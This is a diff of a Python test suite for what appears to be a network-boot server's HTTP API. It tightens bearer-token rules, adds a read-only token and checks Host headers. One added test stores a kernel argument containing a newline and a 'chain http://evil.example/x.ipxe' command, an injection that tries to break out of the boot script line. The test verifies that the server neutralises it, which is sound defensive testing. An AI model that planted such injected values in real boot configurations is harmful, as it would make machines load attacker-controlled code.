@@ -91,26 +91,29 @@ def test_errors_are_json(srv, method, path, body, status, fragment):
 def test_malformed_json_body(srv):
     req = urllib.request.Request(f"{srv.base}/api/v1/nodes/{MAC}", data=b"{not json", method="PUT")
     req.add_header("Authorization", f"Bearer {TOKEN}")
+    req.add_header("Content-Type", "application/json")
     with pytest.raises(urllib.error.HTTPError) as e:
         urllib.request.urlopen(req, timeout=5)
     assert e.value.code == 400 and "error" in json.loads(e.value.read())
 
 
 def test_write_without_token_refused(srv):
-    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"})
+    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=None)
     assert st == 401 and "bearer" in body["error"]
-    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, "wrong")
+    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, "wrong-token")
     assert st == 401 and body["error"] == "wrong bearer token"  # RFC 6750 §3.1: invalid_token is 401
-    st, body = srv.request("DELETE", f"/api/v1/nodes/{MAC}")
+    st, body = srv.request("DELETE", f"/api/v1/nodes/{MAC}", token=None)
     assert st == 401
     assert srv.store.get_node(MAC) is None
-    assert srv.request("GET", "/api/v1/nodes")[0] == 200  # reads are open by default
+    assert srv.request("GET", "/api/v1/nodes", token=None)[0] == 401  # reads need a token by default
 
 
-def test_reads_can_require_token(data_dir):
-    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\nread_requires_token = true\n')
+def test_reads_need_a_token_by_default(data_dir):
+    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\n')
     try:
-        assert s.request("GET", "/api/v1/nodes")[0] == 401
+        for path in ("/api/v1/nodes", "/api/v1/leases", "/api/v1/status", "/api/v1/openapi.json"):
+            st, body = s.request("GET", path, token=None)
+            assert st == 401 and "missing bearer token" in body["error"], (path, body)
         assert s.request("GET", "/api/v1/nodes", token=TOKEN)[0] == 200
         # a token in the URL only for the event stream (EventSource sends no headers)
         st, body = s.request("GET", f"/api/v1/status?access_token={TOKEN}")
@@ -123,25 +126,84 @@ def test_reads_can_require_token(data_dir):
         s.close()
 
 
+def test_read_requires_token_false_opens_reads_not_writes(data_dir):
+    write_fake_image(data_dir, "demo")
+    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\nread_requires_token = false\n')
+    try:
+        assert s.request("GET", "/api/v1/nodes", token=None)[0] == 200
+        assert s.request("GET", "/api/v1/leases", token=None)[0] == 200
+        with urllib.request.urlopen(f"{s.base}/metrics", timeout=5) as r:
+            assert r.status == 200 and b"ramboot_" in r.read()
+        assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=None)[0] == 401
+        assert s.store.get_node(MAC) is None
+    finally:
+        s.close()
+
+
+READ_TOKEN = "read-only-token"
+
+
+def test_the_read_token_reads_and_cannot_write(data_dir):
+    write_fake_image(data_dir, "demo")
+    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\nread_token = "{READ_TOKEN}"\n')
+    try:
+        assert s.request("GET", "/api/v1/nodes", token=READ_TOKEN)[0] == 200
+        assert s.request("GET", f"/api/v1/nodes/{MAC}", token=READ_TOKEN)[0] == 404
+        with urllib.request.urlopen(f"{s.base}/api/v1/events/stream?access_token={READ_TOKEN}", timeout=5) as r:
+            assert r.status == 200 and r.readline().startswith(b"retry:")
+        req = urllib.request.Request(f"{s.base}/metrics", headers={"Authorization": f"Bearer {READ_TOKEN}"})
+        with urllib.request.urlopen(req, timeout=5) as r:
+            assert r.status == 200
+        for method, path, body in [("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}),
+                                   ("POST", "/api/v1/nodes", {"mac": MAC, "image": "demo"}),
+                                   ("PUT", "/api/v1/profiles/p1", {"image": "demo"}),
+                                   ("DELETE", f"/api/v1/nodes/{MAC}", None)]:
+            st, got = s.request(method, path, body, token=READ_TOKEN)
+            assert st == 403 and "read token cannot write" in got["error"], (method, path, got)
+        assert s.store.get_node(MAC) is None and s.store.get_profile("p1") is None
+        assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=TOKEN)[0] == 201
+    finally:
+        s.close()
+
+
 def _mocked(remote: str, method: str, cfg_extra: str, headers: dict | None = None):
     app = web.Application()
     cfg = parse_config(cfg_extra)
     app[CTX] = Ctx(cfg, None, None, None, None)  # type: ignore[arg-type]
+    app[api.SERVER_NAMES] = api.server_names(cfg, "172.22.33.2")
     transport = mock.Mock()
     transport.get_extra_info.side_effect = lambda k, d=None: (remote, 40000) if k == "peername" else d
     return make_mocked_request(method, "/api/v1/nodes/x", headers=headers or {}, app=app, transport=transport)
 
 
-def test_no_token_means_loopback_writes_only():
-    api.authorize(_mocked("127.0.0.1", "PUT", ""), "write")
-    api.authorize(_mocked("::1", "PUT", ""), "write")
-    with pytest.raises(api.ApiError) as e:
-        api.authorize(_mocked("172.22.33.100", "PUT", ""), "write")
-    assert e.value.status == 403 and "loopback" in e.value.message
-    api.authorize(_mocked("172.22.33.100", "GET", ""), "read")
+def test_loopback_is_no_exception():
+    """Old rule: no token configured meant loopback could write. Now a token is needed from anywhere."""
+    for remote in ("127.0.0.1", "::1", "172.22.33.100"):
+        with pytest.raises(api.ApiError) as e:
+            api.authorize(_mocked(remote, "PUT", ""), "write")
+        assert e.value.status == 401
+        with pytest.raises(api.ApiError) as e:
+            api.authorize(_mocked(remote, "GET", ""), "read")
+        assert e.value.status == 401
     api.authorize(_mocked("172.22.33.100", "POST", ""), "node")
-    req = _mocked("172.22.33.100", "PUT", '[api]\ntoken = "t"\n', {"Authorization": "Bearer t"})
+    req = _mocked("172.22.33.100", "PUT", '[api]\ntoken = "t0123456"\n', {"Authorization": "Bearer t0123456"})
     api.authorize(req, "write")
+
+
+@pytest.mark.parametrize("host,ok", [
+    ("172.22.33.2", True), ("172.22.33.2:8080", True), ("localhost", True), ("LOCALHOST:80", True),
+    ("127.0.0.1:80", True), ("[::1]:80", True), ("[::1]", True), ("evil.example", False),
+    ("evil.example:80", False), ("172.22.33.2.evil.example", False), ("ops.example.", True),
+])
+def test_host_names_this_server(host, ok):
+    cfg = '[api]\ntoken = "t0123456"\nallowed_hosts = ["ops.example"]\n'
+    req = _mocked("172.22.33.100", "GET", cfg, {"Host": host, "Authorization": "Bearer t0123456"})
+    if ok:
+        api.authorize(req, "read")
+    else:
+        with pytest.raises(api.ApiError) as e:
+            api.authorize(req, "read")
+        assert e.value.status == 403 and "not a name of this server" in e.value.message
 
 
 def test_node_reports_checked_against_lease(data_dir):
@@ -151,15 +213,15 @@ def test_node_reports_checked_against_lease(data_dir):
     s = LiveServer(data_dir, '[dhcp]\nmode = "full"\nrange = "172.22.33.100-172.22.33.200"\n')
     try:
         s.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.101", mac=MAC, expires=time.time() + 600)])
-        st, body = s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"})
+        st, body = s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)
         assert st == 403 and "does not hold" in body["error"]
-        assert s.request("POST", f"/api/v1/nodes/{MAC}/inventory", INVENTORY)[0] == 403
+        assert s.request("POST", f"/api/v1/nodes/{MAC}/inventory", INVENTORY, token=None)[0] == 403
         s.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 600)])
-        assert s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"})[0] == 202
+        assert s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)[0] == 202
         other = "52:54:00:aa:bb:09"  # a lease another client id took for this chaddr is not the machine's
         s.store.save_leases([LeaseRecord(key=lease_key("ff01", other), ip="127.0.0.1", mac=other, client_id="ff01",
                                          expires=time.time() + 600)])
-        assert s.request("POST", f"/api/v1/nodes/{other}/events", {"stage": "initramfs"})[0] == 403
+        assert s.request("POST", f"/api/v1/nodes/{other}/events", {"stage": "initramfs"}, token=None)[0] == 403
     finally:
         s.close()
 
@@ -324,7 +386,8 @@ def test_documented_routes_are_the_registered_ones(srv):
 
 
 def scrape(srv) -> dict[str, float]:
-    with urllib.request.urlopen(f"{srv.base}/metrics", timeout=5) as r:
+    req = urllib.request.Request(f"{srv.base}/metrics", headers={"Authorization": f"Bearer {srv.token}"})
+    with urllib.request.urlopen(req, timeout=5) as r:
         text = r.read().decode()
     out = {}
     for line in text.splitlines():
@@ -351,7 +414,7 @@ def test_metrics_show_the_boot(srv):
 
 def test_sse_stream_follows_a_boot(srv):
     conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
-    conn.request("GET", "/api/v1/events/stream")
+    conn.request("GET", "/api/v1/events/stream", headers={"Authorization": f"Bearer {srv.token}"})
     resp = conn.getresponse()
     assert resp.status == 200 and resp.getheader("Content-Type").startswith("text/event-stream")
     assert resp.readline().startswith(b"retry:")
@@ -402,10 +465,10 @@ def test_every_write_needs_the_token_and_a_refusal_says_how(srv, method, path, b
     assert st in (200, 201, 204, 404), text
 
 
-def test_no_token_configured_refuses_writes_off_loopback_with_a_challenge(data_dir):
-    req = _mocked("172.22.33.100", "POST", "")
+def test_the_read_token_writing_gets_insufficient_scope():
+    cfg = '[api]\ntoken = "t0123456"\nread_token = "r0123456"\n'
     with pytest.raises(api.ApiError) as e:
-        api.authorize(req, "write")
+        api.authorize(_mocked("172.22.33.100", "POST", cfg, {"Authorization": "Bearer r0123456"}), "write")
     assert e.value.status == 403 and 'error="insufficient_scope"' in e.value.headers["WWW-Authenticate"]
 
 
@@ -474,8 +537,21 @@ def test_full_mode_report_for_a_mac_without_lease_is_refused(data_dir):
 def test_off_mode_reports_need_the_boots_credential(srv):
     """ramboot leases nothing in proxy/off mode, so an address proves nothing: a report
     carries the credential of the node's current boot (its script's ramboot.token=)."""
-    st, body = srv.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"})
+    st, body = srv.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)
     assert st == 403 and "credential" in body["error"]
     old = srv.node_token(MAC)
     assert srv.report(MAC, "events", {"stage": "initramfs"})[0] == 202  # a new boot: `old` is superseded
     assert srv.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=old)[0] == 403
+
+
+def test_a_stored_newline_never_breaks_out_of_the_script_line(srv):
+    """A kernel_args stored before inputs refused control characters (an old database) still
+    renders on the kernel's line: the renderers turn control characters into spaces."""
+    from ramboot.inventory.store import NodeSpec
+
+    srv.store.put_node(NodeSpec(mac=MAC, image="demo", kernel_args="quiet\nchain http://evil.example/x.ipxe\r"))
+    for path in (f"/boot/{MAC.replace(':', '-')}.ipxe", f"/pxelinux.cfg/01-{MAC.replace(':', '-')}"):
+        with urllib.request.urlopen(srv.base + path, timeout=5) as r:
+            text = r.read().decode()
+        assert "quiet chain http://evil.example/x.ipxe" in text, text
+        assert not any(ln.lstrip().startswith("chain") for ln in text.splitlines()) and "\r" not in text, text
